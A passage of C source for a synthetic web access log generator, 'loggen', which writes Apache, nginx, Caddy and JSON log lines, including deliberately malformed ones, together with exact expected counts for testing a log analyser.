            q = put_str(q, L->method);
        else if (L->non_http)
            q = put_json_text(q, b + L->req_at, L->req_end - L->req_at);
        else
            q = put_str(q, "GET");
        q = put_str(q, "\",\"host\":\"www.example.com\",\"uri\":\"");
        if (L->url != UINT32_MAX) {
            size_t n;
            const char *u = url_text(g, L->url, &n);
            q = put_json_text(q, u, n);
        } else if (L->non_http) {
            *q++ = '/';
        }
        q = put_str(q, "\",\"headers\":{\"User-Agent\":[\"");
        q = put_json_text(q, b + L->ua_at, L->ua_end - L->ua_at);
        q = put_str(q, "\"],\"Referer\":[\"");
        q = put_json_text(q, b + L->ref_at, L->ref_end - L->ref_at);
        q = put_str(q, "\"]}},\"bytes_read\":0,\"user_id\":\"\",\"duration\":");
        q = put_seconds_us(q, L->dur_us);
        q = put_str(q, ",\"size\":");
        q = put_u64(q, body);
        q = put_str(q, ",\"status\":");
        q = put_u64(q, L->status_v);
        q = put_str(q, ",\"resp_headers\":{\"Server\":[\"Caddy\"]}}");
        L->cut = (size_t)(q - g->alt);
    } else if (g->opt.format == FMT_JSON) {
        q = put_str(q, "{\"time\":\"");
        q = put_iso_time(g, q, L);
        q = put_str(q, "\",\"remote_addr\":\"");
        q = put_mem(q, peer, peer_len);
        q = put_str(q, "\",\"request\":\"");
        q = put_json_text(q, b + L->req_at, L->req_end - L->req_at);
        q = put_str(q, "\",\"status\":");
        q = put_u64(q, L->status_v);
        q = put_str(q, ",\"body_bytes_sent\":");
        q = put_u64(q, body);
        q = put_str(q, ",\"request_time\":\"");
        q = put_seconds_ms(q, L->dur_us);
        q = put_str(q, "\",\"http_referer\":\"");
        q = put_json_text(q, b + L->ref_at, L->ref_end - L->ref_at);
        q = put_str(q, "\",\"http_user_agent\":\"");
        q = put_json_text(q, b + L->ua_at, L->ua_end - L->ua_at);
        q = put_str(q, "\",\"http_x_forwarded_for\":\"");
        if (np == 0) {
            *q++ = '-';
        } else {
            q = put_mem(q, client, client_len);
            if (np == 2)
                q = put_str(put_str(q, ", "), proxy[0]);
        }
        q = put_str(q, "\"}");
        L->cut = (size_t)(q - g->alt);
    } else {
        /* $upstream_response_time: one to three upstreams tried, the last
         * value the one counted; now and then "-" (no response), and then
         * the line logs no response time. */
        bool upstream_none = rng_below(&g->x, 50) == 0;
        L->cut = 0;
        bool duration_seen = false;
        for (size_t i = 0; i < g->opt.n_pieces; i++) {
            const nginx_piece *pc = &g->opt.pieces[i];
            if (pc->lit != NULL) {
                q = put_mem(q, pc->lit, pc->len);
                continue;
            }
            if (pc->counted)
                L->cut = (size_t)(q - g->alt);
            switch (pc->var) {
            case NV_REMOTE_ADDR: q = put_mem(q, peer, peer_len); break;
            case NV_TIME_LOCAL: {
                char *e = put_time(g, tbuf, L->ts, L->zone);
                q = put_mem(q, tbuf + 1, (size_t)(e - tbuf) - 2);
                break;
            }
            case NV_TIME_ISO: q = put_iso_time(g, q, L); break;
            case NV_MSEC:
                q = put_u64(q, (uint64_t)L->ts);
                *q++ = '.';
                *q++ = (char)('0' + L->ms / 100);
                q = put_2d(q, L->ms % 100);
                break;
            case NV_REQUEST: q = put_mem(q, b + L->req_at, L->req_end - L->req_at); break;
            case NV_METHOD: q = put_str(q, L->method != NULL ? L->method : "-"); break;
            case NV_URI:
                if (L->url != UINT32_MAX) {
                    size_t n;
                    const char *u = url_text(g, L->url, &n);
                    q = put_mem(q, u, n);
                } else {
                    *q++ = '-';
                }
                break;
            case NV_STATUS: q = put_u64(q, L->status_v); break;
            case NV_BODY: q = put_u64(q, body); break;
            case NV_BYTES:
                /* Headers included; when it is the size counted, so is the truth. */
                q = put_u64(q, body + 180);
                if (pc->counted)
                    L->bytes = (int64_t)body + 180;
                break;
            case NV_REFERER: q = put_mem(q, b + L->ref_at, L->ref_end - L->ref_at); break;
            case NV_AGENT: q = put_mem(q, b + L->ua_at, L->ua_end - L->ua_at); break;
            case NV_HOST: q = put_str(q, "www.example.com"); break;
            case NV_REQUEST_TIME:
                q = put_seconds_ms(q, L->dur_us);
                duration_seen = true;
                break;
            case NV_UPSTREAM_TIME:
                if (L->ms % 7 == 0)
                    q = put_str(q, "0.002, ");
                if (L->ms % 11 == 0)
                    q = put_str(q, "- : ");
                if (upstream_none && !duration_seen)
                    *q++ = '-';
                else
                    q = put_seconds_ms(q, L->dur_us);
                duration_seen = true;
                break;
            case NV_XFF:
                if (np == 0) {
                    *q++ = '-';
                } else {
                    q = put_mem(q, client, client_len);
                    if (np == 2)
                        q = put_str(put_str(q, ", "), proxy[0]);
                }
                break;
            default: *q++ = '-'; break;
            }
        }
        /* Only the first time field counts; "-" there logs none. */
        for (size_t i = 0; i < g->opt.n_pieces; i++) {
            nginx_var v = g->opt.pieces[i].var;
            if (g->opt.pieces[i].lit == NULL && (v == NV_REQUEST_TIME || v == NV_UPSTREAM_TIME)) {
                if (v == NV_UPSTREAM_TIME && upstream_none)
                    L->timed = false;
                break;
            }
        }
    }
    *q++ = '\n';
    memcpy(L->buf, g->alt, (size_t)(q - g->alt));
    L->len = (size_t)(q - g->alt);
    if (L->cut == 0)
        L->cut = 1;
}

/* Reads an nginx log_format string into opt->pieces; refuses what loggen
 * could not write a truth for. */
static void parse_nginx(options *o, const char *spec)
{
    static const struct {
        const char *name;
        nginx_var var;
    } vars[] = {
        {"remote_addr", NV_REMOTE_ADDR}, {"remote_user", NV_REMOTE_USER},
        {"time_local", NV_TIME_LOCAL}, {"time_iso8601", NV_TIME_ISO}, {"msec", NV_MSEC},
        {"request", NV_REQUEST}, {"request_method", NV_METHOD}, {"request_uri", NV_URI},
        {"status", NV_STATUS}, {"body_bytes_sent", NV_BODY}, {"bytes_sent", NV_BYTES},
        {"http_referer", NV_REFERER}, {"http_user_agent", NV_AGENT}, {"host", NV_HOST},
        {"server_name", NV_HOST}, {"http_host", NV_HOST}, {"request_time", NV_REQUEST_TIME},
        {"upstream_response_time", NV_UPSTREAM_TIME}, {"http_x_forwarded_for", NV_XFF},
    };
    /* The parser's kinds: the first field of each counts. */
    enum { K_NONE, K_CLIENT, K_TIME, K_REQUEST, K_STATUS, K_SIZE, K_HOST, K_DURATION, K_N };
    bool seen[K_N] = {false};
    const char *p = spec;
    o->n_pieces = 0;
    while (*p) {
        if (o->n_pieces == MAX_PIECES)
            die(EXIT_USAGE, "--format nginx: more than %d pieces", MAX_PIECES);
        nginx_piece *pc = &o->pieces[o->n_pieces++];
        memset(pc, 0, sizeof *pc);
        if (*p != '$') {
            pc->lit = p;
            while (*p && *p != '$')
                p++;
            pc->len = (size_t)(p - pc->lit);
            continue;
        }
        p++;
        bool braced = *p == '{';
        if (braced)
            p++;
        const char *name = p;
        while ((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') || (*p >= '0' && *p <= '9') ||
               *p == '_')
            p++;
        size_t n = (size_t)(p - name);
        if (n == 0 || (braced && *p++ != '}'))
            die(EXIT_USAGE, "--format nginx: a '$' without a variable name");
        pc->var = NV_OTHER;
        for (size_t i = 0; i < sizeof vars / sizeof vars[0]; i++)
            if (strlen(vars[i].name) == n && memcmp(vars[i].name, name, n) == 0)
                pc->var = vars[i].var;
        int k = K_NONE;
        switch (pc->var) {
        case NV_REMOTE_ADDR: k = K_CLIENT; break;
        case NV_TIME_LOCAL: case NV_TIME_ISO: case NV_MSEC: k = K_TIME; break;
        case NV_REQUEST: k = K_REQUEST; break;
        case NV_STATUS: k = K_STATUS; break;
        case NV_BODY: case NV_BYTES: k = K_SIZE; break;
        case NV_HOST: k = K_HOST; break;
        case NV_REQUEST_TIME: case NV_UPSTREAM_TIME: k = K_DURATION; break;
        case NV_METHOD: case NV_URI:
            die(EXIT_USAGE, "--format nginx: loggen writes \"$request\", not $request_method "
                            "or $request_uri");
        default: break;
        }
        if (k != K_NONE && !seen[k]) {
            seen[k] = true;
            pc->counted = true;
        }
    }
    if (!seen[K_CLIENT] || !seen[K_TIME] || !seen[K_REQUEST] || !seen[K_STATUS])
        die(EXIT_USAGE, "--format nginx: the format needs $remote_addr, a time ($time_local, "
                        "$time_iso8601 or $msec), \"$request\" and $status");
    o->timed = seen[K_DURATION];
}

/* Renders one valid line for clock second t into g->ln and records what it
 * counts.  The line is not yet written: a malformed line is made from it. */
static void render_valid(gen *g, int64_t t)
{
    line *L = &g->ln;
    rng *r = &g->r;
    char *p = L->buf;
    session *s = &g->sessions[rng_below(r, NSESSIONS)];

    if (s->left == 0) {
        s->client = alias_draw(&g->clients, r);
        s->left = 1 + rng_below(r, g->opt.visit);
        s->page = UINT32_MAX;
        /* Half the sessions come from the client's own browser; the others
         * share its address (NAT, proxies) with any browser or bot. */
        s->agent = rng_below(r, 2) ? client_agent(g, client_hash(g, s->client))
                                   : client_agent(g, rng_next(r));
    }
    s->left--;
    uint32_t ci = s->client;
    uint64_t h = client_hash(g, ci);
    client_kind kind = client_kind_of(g, h);

    /* What is requested, first: the vhost of vhost_combined depends on it. */
    uint32_t shape = rng_below(r, 100000);
    uint32_t url = alias_draw(&g->urls, r);
    url_kind ukind = (url_kind)g->url_kind[url];

    L->vhost = NULL;
    if (g->opt.format == FMT_VHOST) {
        if (ukind == U_STATIC)
            p = put_str(p, "static.example.com:443 ");
        else if (ukind == U_API)
            p = put_str(p, "api.example.com:443 ");
        else
            p = put_str(p, rng_below(r, 10) ? "www.example.com:443 " : "www.example.com:80 ");
        L->vhost = ukind == U_STATIC ? "static.example.com"
                 : ukind == U_API    ? "api.example.com" : "www.example.com";
    }

    L->client_at = (size_t)(p - L->buf);
    if (kind == C_IPV4) {
        uint32_t a = client_ipv4(g, ci);
        bool dual = g->opt.ipv6 > 0 && ((h >> 52) & 63) == 0;
        p = dual && rng_below(r, 2) ? put_mapped(g, p, a) : put_ipv4(p, a);
    } else if (kind == C_IPV6) {
        uint16_t w[8];
        client_ipv6(g, ci, h, w);
        p = put_ipv6_client(g, p, w);
    } else {
        p = put_hostname(g, p, ci, h);
    }
    p = decorate_client(g, L->buf + L->client_at, p);
    L->client_end = (size_t)(p - L->buf);
    p = put_str(p, " - ");
    p = ((h >> 32) & 255) < 2 ? put_str(p, user_names[(h >> 40) % NUSERS]) : put_str(p, "-");
    *p++ = ' ';

    /* Time: stamped at the request's start, logged at its end. */
    uint32_t lagv = rng_below(r, 1000);
    int64_t lag = lagv < 950 ? 0 : lagv < 985 ? 1 + (lagv & 1) : 1 + (int64_t)(lagv % LAG_MAX);
    int zone = (int)((h >> 8) % (uint64_t)g->opt.nzones);
    if (rng_below(r, 100) < 3)
        zone = (int)rng_below(r, (uint32_t)g->opt.nzones);
    L->ts = t - lag;
    L->zone = zone;
    L->lbracket = (size_t)(p - L->buf);
    p = put_time(g, p, L->ts, zone);
    L->rbracket = (size_t)(p - L->buf) - 1;
    *p++ = ' ';
    *p++ = '"';

    const char *method = pick_method(r);
    /* Files are fetched, not posted to. */
    if (method[0] != 'G' && method[0] != 'H' &&
        (ukind == U_STATIC || ukind == U_DOWNLOAD || ukind == U_REDIRECT))
        method = "GET";
    unsigned status;
    int64_t body;
    bool head = method[0] == 'H';
    size_t n;
    const char *u = url_text(g, url, &n);

    L->url = UINT32_MAX;
    L->req_at = (size_t)(p - L->buf);
    L->method = NULL;
    L->non_http = false;
    if (shape < 300) {                      /* "-" */
        *p++ = '-';
        status = rng_below(r, 4) ? 408 : 400;
        body = status == 408 ? -1 : 226;
    } else if (shape < 400) {               /* four and more tokens */
        p = put_str(p, long_requests[rng_below(r, NLONG_REQUESTS)]);
        status = 400;
        body = 226;
    } else if (shape < 450) {               /* one token */
        uint32_t w = rng_below(r, 3);
        if (w == 0) {
            /* A TLS ClientHello sent to a plain-HTTP port, as Apache logs it. */
            L->non_http = true;
            p = put_str(p, "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03");
            for (uint32_t k = 8 + rng_below(r, 24); k > 0; k--) {
                uint32_t byte = rng_below(r, 256);
                *p++ = '\\';
                *p++ = 'x';
                *p++ = hex_lower[byte >> 4];
                *p++ = hex_lower[byte & 15];
            }
        } else {
            p = put_str(p, w == 1 ? "SSH-2.0-Go" : "GET");
        }
        status = 400;
        body = 226;
    } else if (shape < 500) {               /* "" */
        status = 400;
        body = -1;
    } else {
        bool wide = shape < 900, noproto = shape >= 900 && shape < 1100;
        p = put_str(p, method);
        p = put_spaces(g, p, wide);
        p = put_mem(p, u, n);
        if (!noproto) {
            uint32_t v = rng_below(r, 10);
            p = put_spaces(g, p, wide);
            p = put_str(p, v < 7 ? "HTTP/1.1" : v < 9 ? "HTTP/2.0" : "HTTP/1.0");
        }
        L->url = url;
        L->method = method;
        status = pick_status(r, ukind, method);
        body = pick_body(r, ukind, g->url_size[url], status, head);
        if (ukind == U_PAGE && status == 200)
            s->page = url;
    }
    if (g->opt.handshakes > 0 && rng_ppm(&g->x, g->opt.handshakes * 1000)) {
        p = put_handshake(g, L->buf + L->req_at);
        L->url = UINT32_MAX;
        L->method = NULL;
        L->non_http = true;
        status = 400;
        body = 150;
    }
    L->req_end = (size_t)(p - L->buf);
    *p++ = '"';
    *p++ = ' ';
    L->status = (size_t)(p - L->buf);
    L->status_v = status;
    p = put_u64(p, status);
    *p++ = ' ';
    L->size = (size_t)(p - L->buf);
    if (g->opt.format == FMT_VHOST)         /* %O: headers included, never "-" */
        body = (body < 0 ? 0 : body) + 180 + rng_below(r, 250);
    if (body < 0)
        *p++ = '-';
    else
        p = put_u64(p, (uint64_t)body);
    L->size_end = (size_t)(p - L->buf);
    L->bytes = body;

    if (g->opt.format != FMT_COMMON) {
        *p++ = ' ';
        L->ref_at = (size_t)(p - L->buf) + 1;
        p = put_referer(g, p, s);
        L->ref_end = (size_t)(p - L->buf) - 1;
        *p++ = ' ';
        *p++ = '"';
        L->ua_at = (size_t)(p - L->buf);
        p = put_str(p, rng_ppm(r, 2000) ? escaped_agents[rng_below(r, NESC_AGENTS)]
                                        : s->agent);
        L->ua_end = (size_t)(p - L->buf);
        *p++ = '"';
    }
    *p++ = '\n';
    L->len = (size_t)(p - L->buf);
    L->client = ci;
    L->timed = false;
    if (g->opt.timed)
        pick_duration(g, ukind);
    if (g->opt.format >= FMT_CADDY)
        render_other(g);
}

/* Removes n bytes at off from the line; positions after it are not used. */
static void line_cut(line *L, size_t off, size_t n)
{
    memmove(L->buf + off, L->buf + off + n, L->len - off - n);
    L->len -= n;
}

/* Junk without '[' (so no timestamp can be found) and without '\n'. */
static void write_junk(gen *g, size_t n, bool binary)
{
    static const char text[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
                               " .,;:/-_=+()*&^%$#@!?<>{}\"'\\|~";
    char chunk[4096];
    while (n > 0) {
        size_t m = n < sizeof chunk ? n : sizeof chunk;
        for (size_t k = 0; k < m; k++) {
            uint32_t c;
            if (binary) {
                do
                    c = rng_below(&g->r, 256);
                while (c == '\n' || c == '[');
            } else {
                c = (unsigned char)text[rng_below(&g->r, sizeof text - 1)];
            }
            chunk[k] = (char)c;
        }
        out_write(g, chunk, m);
        n -= m;
    }
}

/* Writes one malformed line; see the top of the file for why each kind
 * cannot be valid. */
static void emit_malformed(gen *g, int64_t t)
{
    line *L = &g->ln;
    rng *r = &g->r;
    uint32_t kind = rng_below(r, 10000);

    if (kind < 1450) {                          /* empty */
        out_write(g, "\n", 1);
        return;
    }
    if (kind < 2750) {                          /* binary junk */
        write_junk(g, 1 + rng_below(r, 300), true);
        out_write(g, "\n", 1);
        return;
    }
    if (kind < 2790) {                          /* a very long junk line */
        size_t n = rng_below(r, 32) ? 4096 + rng_below(r, 61440)
                                    : LONG_JUNK_LIMIT + 1 + rng_below(r, LONG_JUNK_LIMIT / 2);
        write_junk(g, n, false);
        out_write(g, "\n", 1);
        return;
    }
    render_valid(g, t);
    if (g->opt.format >= FMT_CADDY) {
        /* Cut before the last field the parser counts (JSON: before the
         * closing brace): no format reads the rest as a valid line. */
        L->len = L->cut <= 1 ? 0 : 1 + rng_below(r, (uint32_t)L->cut - 1);
        L->buf[L->len++] = '\n';
        out_write(g, L->buf, L->len);
        return;
    }
    if (kind < 4790) {                          /* truncated before its size */
        L->len = 1 + rng_below(r, (uint32_t)L->status + 3);
        L->buf[L->len++] = '\n';
    } else if (kind < 6840) {                   /* a bad timestamp */
        size_t b = L->lbracket;
        switch (rng_below(r, 7)) {
        case 0: memcpy(L->buf + b + 4, "Foo", 3); break;
        case 1: memcpy(L->buf + b + 13, "25", 2); break;
        case 2: memcpy(L->buf + b + 1, rng_below(r, 2) ? "32" : "00", 2); break;
        case 3: line_cut(L, b + 8, 2); break;                   /* yyyy -> yy */
        case 4: line_cut(L, L->rbracket - 6, 6); break;         /* no zone */
        case 5: line_cut(L, L->rbracket, 1); break;             /* no ']' */
        default: line_cut(L, b, 1); break;                      /* no '[' */
        }
    } else if (kind < 7840) {                   /* no status */
        line_cut(L, L->status, 4);
    } else if (kind < 8840) {                   /* a size that is not a size */
        /* The last one is Arabic-Indic digits one and two, in UTF-8. */
        static const char *const bad[] = {"12a4", "abc", "-1", "0x1f", "1.5K", "--",
                                          "\xd9\xa1\xd9\xa2"};
        const char *v = bad[rng_below(r, sizeof bad / sizeof bad[0])];
        size_t vn = strlen(v), old = L->size_end - L->size;
        memmove(L->buf + L->size + vn, L->buf + L->size_end, L->len - L->size_end);
        memcpy(L->buf + L->size, v, vn);
        L->len = L->len - old + vn;
    } else {                                    /* a NUL in the timestamp or status */
        if (rng_below(r, 2))
            L->buf[L->lbracket + 1 + rng_below(r, (uint32_t)(L->rbracket - L->lbracket - 1))] =
                '\0';
        else
            L->buf[L->status + rng_below(r, 3)] = '\0';
    }
    out_write(g, L->buf, L->len);
}

/* The number of lines logged in clock second t: the day curve, bursts, and
 * Poisson noise around --rps. */
static uint64_t second_load(gen *g, int64_t t)
{
    double day = (double)(((t % 86400) + 86400) % 86400) / 86400.0;
    double lambda = g->opt.rps * (1.0 + 0.35 * sin(TWO_PI * (day - 0.375)));

    if (g->burst_left == 0 && rng_below(&g->r, 600) == 0) {
        g->burst_left = 1 + rng_below(&g->r, 6);
        g->burst_factor = 3.0 + 9.0 * rng_unit(&g->r);
    }
    if (g->burst_left > 0) {
        lambda *= g->burst_factor;
        g->burst_left--;
    }
    return rng_poisson(&g->r, lambda);
}

/* One valid line's record for --truth-lines: second, status, method (as
 * logtally counts it: PROPFIND is "other"), bytes, client index, URL
 * ("-" for none), response time in microseconds as logged ("-" for none),
 * virtual host ("-" for none), tab-separated.  Generated URLs hold no tab
 * or newline. */
static void truth_line(gen *g, const line *L)
{
    const char *m = L->method != NULL ? L->method : "none";
    static const char *const named[] = {"GET", "HEAD", "POST", "PUT", "DELETE", "PATCH",
                                        "OPTIONS", "CONNECT", "TRACE", "none"};
    int known = 0;
    for (size_t i = 0; i < sizeof(named) / sizeof(named[0]); i++)
        known |= strcmp(m, named[i]) == 0;
    fprintf(g->truth_lines, "%lld\t%u\t%s\t%lld\t%u\t", (long long)L->ts, L->status_v,
            known ? m : "other", (long long)(L->bytes > 0 ? L->bytes : 0), L->client);
    if (L->url == UINT32_MAX) {
        fputc('-', g->truth_lines);
    } else {
        size_t n;
        const char *u = url_text(g, L->url, &n);
        fwrite(u, 1, n, g->truth_lines);
    }
    if (L->timed)
        fprintf(g->truth_lines, "\t%llu\t", (unsigned long long)L->dur_us);
    else
        fputs("\t-\t", g->truth_lines);
    fputs(L->vhost != NULL ? L->vhost : "-", g->truth_lines);
    fputc('\n', g->truth_lines);
}

static void generate(gen *g)
{
    truth *t = &g->t;
    uint64_t done = 0;
    uint32_t malformed_ppm = g->opt.malformed * 1000;

    t->lo = g->opt.start - LAG_MAX;
    for (int64_t clock = g->opt.start; done < g->opt.lines; clock++) {
        if (clock >= TIME_LIMIT)
            die(EXIT_USAGE, "the log would run past the year 9999; lower --lines or raise --rps");
        peak_close(t, clock - LAG_MAX);
        for (uint64_t n = second_load(g, clock); n > 0 && done < g->opt.lines; n--, done++) {
            if (malformed_ppm > 0 && rng_ppm(&g->r, malformed_ppm)) {
                emit_malformed(g, clock);
                t->malformed++;
                continue;
            }
            render_valid(g, clock);
            truth_count(t, &g->ln);
            if (g->truth_lines != NULL)
                truth_line(g, &g->ln);
            out_write(g, g->ln.buf, g->ln.len);
        }
    }
    peak_close(t, t->last_ts + 1);
    t->lines = done;
}

/* ------------------------------------------------------------------------
 * Command line
 * ---------------------------------------------------------------------- */

static void usage(FILE *f)
{
    fprintf(f,
        "Usage: %s [OPTION]...\n"
        "Writes a synthetic Apache/nginx access log and, with --truth, the exact\n"
        "answers logtally must give for it (JSON, computed while writing).\n"
        "\n"
        "  --lines N            lines to write, malformed ones included (100000)\n"
        "  --seed S             random seed; same arguments, same bytes (1)\n"
        "  --out FILE           the log (standard output)\n"
        "  --truth FILE         the answers (none)\n"
        "  --truth-lines FILE   one record per valid line: second, status, method,\n"
        "                       bytes, client index, URL, response time in us,\n"
        "                       virtual host (tab-separated; none)\n"
        "  --start EPOCH        UTC second of the first request (1704067200)\n"
        "  --rps R              mean requests per second, before bursts (100)\n"
        "  --malformed PERMILLE share of malformed lines (5)\n"
        "  --zones LIST         UTC offsets, comma-separated (+0000,-0400,+0530,+0330,-0930)\n"
        "  --clients N          client population (max(1000, lines/20))\n"
        "  --urls N             URL population (max(100, lines/50))\n"
        "  --ipv6 PERMILLE      share of IPv6 clients; 0 also drops ::ffff: forms (30)\n"
        "  --hostnames PERMILLE share of hostname clients (50)\n"
        "  --client-skew S      Zipf exponent of the client draw; 0 is uniform (1.05)\n"
        "  --visit N            most requests in one client's visit (8)\n"
        "  --format F           combined, common, vhost_combined, caddy, json, or\n"
        "                       nginx:'LOG_FORMAT' with $variables (combined)\n"
        "  --ports PERMILLE     share of lines whose IP client has a :port (0)\n"
        "  --proxies N          requests pass up to 2 of N trusted proxies, 127.0.0.x and\n"
        "                       fd00::x, logged as X-Forwarded-For lists (0)\n"
        "  --handshakes PERMILLE share of requests that are TLS/RDP handshakes (0)\n"
        "  --help               this text\n"
        "\n"
        "Exit status: 0 ok, 1 I/O error, 2 bad usage.\n",
        progname);
}

static uint64_t parse_uint(const char *opt, const char *s, uint64_t min, uint64_t max)
{
    char *end;
    errno = 0;
    unsigned long long v = strtoull(s, &end, 10);
    if (s[0] == '\0' || s[0] == '-' || s[0] == '+' || *end != '\0' || errno == ERANGE ||
        v < min || v > max)
        die(EXIT_USAGE, "%s: '%s' is not a whole number in [%llu, %llu]", opt, s,
            (unsigned long long)min, (unsigned long long)max);
    return v;
}

static void parse_zones(options *o, const char *list)
{
    const char *p = list;
    o->nzones = 0;
    for (;;) {
        const char *end = strchr(p, ',');
        size_t n = end ? (size_t)(end - p) : strlen(p);
        if (o->nzones == MAX_ZONES)
            die(EXIT_USAGE, "--zones: more than %d zones", MAX_ZONES);
        bool ok = n == 5 && (p[0] == '+' || p[0] == '-');
        for (size_t k = 1; ok && k < 5; k++)
            ok = p[k] >= '0' && p[k] <= '9';
        int hh = ok ? (p[1] - '0') * 10 + (p[2] - '0') : 0;
        int mm = ok ? (p[3] - '0') * 10 + (p[4] - '0') : 0;
        if (!ok || hh > 23 || mm > 59)
            die(EXIT_USAGE, "--zones: '%.*s' is not an offset like +0530 (hh <= 23, mm <= 59)",
                (int)n, p);
        memcpy(o->zone_text[o->nzones], p, 5);
        o->zone_text[o->nzones][5] = '\0';
        o->zone_offset[o->nzones] = (p[0] == '-' ? -1 : 1) * (hh * 3600 + mm * 60);
        o->nzones++;
        if (end == NULL)
            break;
        p = end + 1;
    }
}

static void parse_options(options *o, int argc, char **argv)
{
    enum { O_LINES = 256, O_SEED, O_OUT, O_TRUTH, O_TRUTH_LINES, O_START, O_RPS, O_MALFORMED,
           O_ZONES, O_CLIENTS, O_URLS, O_IPV6, O_HOSTNAMES, O_FORMAT, O_HELP, O_PORTS, O_PROXIES,
           O_HANDSHAKES, O_SKEW, O_VISIT };
    static const struct option longopts[] = {
        {"lines", required_argument, NULL, O_LINES},
        {"seed", required_argument, NULL, O_SEED},
        {"out", required_argument, NULL, O_OUT},
        {"truth", required_argument, NULL, O_TRUTH},
        {"truth-lines", required_argument, NULL, O_TRUTH_LINES},
        {"start", required_argument, NULL, O_START},
        {"rps", required_argument, NULL, O_RPS},
        {"malformed", required_argument, NULL, O_MALFORMED},
        {"zones", required_argument, NULL, O_ZONES},
        {"clients", required_argument, NULL, O_CLIENTS},
        {"urls", required_argument, NULL, O_URLS},
        {"ipv6", required_argument, NULL, O_IPV6},
        {"hostnames", required_argument, NULL, O_HOSTNAMES},
        {"format", required_argument, NULL, O_FORMAT},
        {"ports", required_argument, NULL, O_PORTS},
        {"proxies", required_argument, NULL, O_PROXIES},
        {"handshakes", required_argument, NULL, O_HANDSHAKES},
        {"client-skew", required_argument, NULL, O_SKEW},
        {"visit", required_argument, NULL, O_VISIT},
        {"help", no_argument, NULL, O_HELP},
        {NULL, 0, NULL, 0},
    };
    uint64_t clients = 0, urls = 0;
    int c;

    memset(o, 0, sizeof *o);
    o->lines = 100000;
    o->seed = 1;
    o->start = 1704067200;          /* 2024-01-01T00:00:00Z */
    o->rps = 100.0;
    o->malformed = 5;
    o->ipv6 = 30;
    o->hostnames = 50;
    o->client_skew = 1.05;
    o->visit = 8;
    o->format = FMT_COMBINED;
    parse_zones(o, "+0000,-0400,+0530,+0330,-0930");

    opterr = 0;
    while ((c = getopt_long(argc, argv, ":", longopts, NULL)) != -1) {
        switch (c) {
        case O_LINES: o->lines = parse_uint("--lines", optarg, 0, MAX_LINES); break;
        case O_SEED: o->seed = parse_uint("--seed", optarg, 0, UINT64_MAX); break;
        case O_OUT: o->out = optarg; break;
        case O_TRUTH: o->truth = optarg; break;
        case O_TRUTH_LINES: o->truth_lines = optarg; break;
        case O_START:
            o->start = (int64_t)parse_uint("--start", optarg, 86400, TIME_LIMIT - 86400);
            break;
        case O_RPS: {
            char *end;
            errno = 0;
            o->rps = strtod(optarg, &end);
            if (*optarg == '\0' || *end != '\0' || errno != 0 || !(o->rps >= 0.01 && o->rps <= 1e6))
                die(EXIT_USAGE, "--rps: '%s' is not a number in [0.01, 1000000]", optarg);
            break;
        }
        case O_MALFORMED:
            o->malformed = (unsigned)parse_uint("--malformed", optarg, 0, 1000);
            break;
        case O_ZONES: parse_zones(o, optarg); break;
        case O_CLIENTS: clients = parse_uint("--clients", optarg, 1, MAX_CLIENTS); break;
        case O_URLS: urls = parse_uint("--urls", optarg, 1, MAX_URLS); break;
        case O_VISIT: o->visit = (uint32_t)parse_uint("--visit", optarg, 1, 1000); break;
        case O_SKEW: {
            char *end;
            errno = 0;
            o->client_skew = strtod(optarg, &end);
            if (errno != 0 || end == optarg || *end != '\0' || !(o->client_skew >= 0.0)
                || o->client_skew > 10.0)
                die(EXIT_USAGE, "--client-skew: '%s' is not a number in [0, 10]", optarg);
            break;
        }
        case O_IPV6: o->ipv6 = (unsigned)parse_uint("--ipv6", optarg, 0, 1000); break;
        case O_HOSTNAMES:
            o->hostnames = (unsigned)parse_uint("--hostnames", optarg, 0, 1000);
            break;
        case O_FORMAT:
            if (strcmp(optarg, "combined") == 0)
                o->format = FMT_COMBINED;
            else if (strcmp(optarg, "common") == 0)
                o->format = FMT_COMMON;
            else if (strcmp(optarg, "vhost_combined") == 0)
                o->format = FMT_VHOST;
            else if (strcmp(optarg, "caddy") == 0)
                o->format = FMT_CADDY, o->timed = true;
            else if (strcmp(optarg, "json") == 0)
                o->format = FMT_JSON, o->timed = true;
            else if (strncmp(optarg, "nginx:", 6) == 0)
                o->format = FMT_NGINX, parse_nginx(o, optarg + 6);
            else
                die(EXIT_USAGE, "--format: '%s' is not combined, common, vhost_combined, caddy, "
                                "json or nginx:'LOG_FORMAT'", optarg);
            break;
        case O_PORTS: o->ports = (unsigned)parse_uint("--ports", optarg, 0, 1000); break;
        case O_PROXIES: o->proxies = (unsigned)parse_uint("--proxies", optarg, 0, 250); break;
        case O_HANDSHAKES:
            o->handshakes = (unsigned)parse_uint("--handshakes", optarg, 0, 1000);
            break;
        case O_HELP:
            usage(stdout);
            exit(0);
        case ':':
            die(EXIT_USAGE, "%s needs a value", argv[optind - 1]);
        default:
            die(EXIT_USAGE, "unknown option '%s'", argv[optind - 1]);
        }
    }
    if (optind < argc)
        die(EXIT_USAGE, "unexpected argument '%s'", argv[optind]);
    if (o->ipv6 + o->hostnames > 1000)
        die(EXIT_USAGE, "--ipv6 and --hostnames add up to more than 1000 per mille");
    if (o->format == FMT_NGINX && o->proxies > 0) {
        bool xff = false;
        for (size_t i = 0; i < o->n_pieces; i++)
            xff |= o->pieces[i].lit == NULL && o->pieces[i].var == NV_XFF;
        if (!xff)
            die(EXIT_USAGE, "--proxies: the nginx format must log $http_x_forwarded_for");
    }
    if (clients == 0) {
        clients = o->lines / 20 > 1000 ? o->lines / 20 : 1000;
        if (clients > MAX_CLIENTS)
            clients = MAX_CLIENTS;
    }
    if (urls == 0) {
        urls = o->lines / 50 > 100 ? o->lines / 50 : 100;
        if (urls > MAX_URLS)
            urls = MAX_URLS;
    }
    o->clients = (uint32_t)clients;
    o->urls = (uint32_t)urls;
}

int main(int argc, char **argv)
{
    static gen g;               /* large (line buffer, rings): not on the stack */
    FILE *truth_file = NULL;
    uint64_t sm;

    if (argc > 0 && argv[0] != NULL && argv[0][0] != '\0') {
        const char *slash = strrchr(argv[0], '/');
        progname = slash ? slash + 1 : argv[0];
    }
    parse_options(&g.opt, argc, argv);

    sm = g.opt.seed;
    for (int k = 0; k < 4; k++)
        g.r.s[k] = splitmix64(&sm);
    g.attr_key = splitmix64(&sm);
    for (int k = 0; k < 3; k++) {
        g.k_ipv4[k] = (uint32_t)splitmix64(&sm);
